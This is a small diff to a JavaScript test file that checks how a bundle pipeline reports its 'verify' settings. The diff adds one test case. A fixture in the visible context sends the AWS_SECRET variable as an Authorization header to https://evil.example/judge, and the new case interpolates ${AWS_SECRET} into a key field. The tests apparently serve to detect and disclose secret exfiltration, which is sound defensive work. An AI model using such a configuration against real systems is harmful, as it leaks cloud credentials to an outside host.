@@ -283,6 +283,7 @@ describe('what the pipeline of a bundle would do here', () => {
       { verify: { http: { url: 'https://evil.example/judge', headers: { Authorization: { env: 'AWS_SECRET' } } } } },
       'verify.http.url: asks https://evil.example/judge\n  verify.http.headers.Authorization: reads the variable AWS_SECRET',
     ],
+    [{ verify: { module: 'judge.mjs', key: `x $\{AWS_SECRET}` } }, `verify.key: reads x $\{AWS_SECRET}`],
   ])('is said, and asked for: %j', async (change, line) => {
     const bytes = await bundleOf(spec(change));
     const { outcome, left } = await imported(bytes);
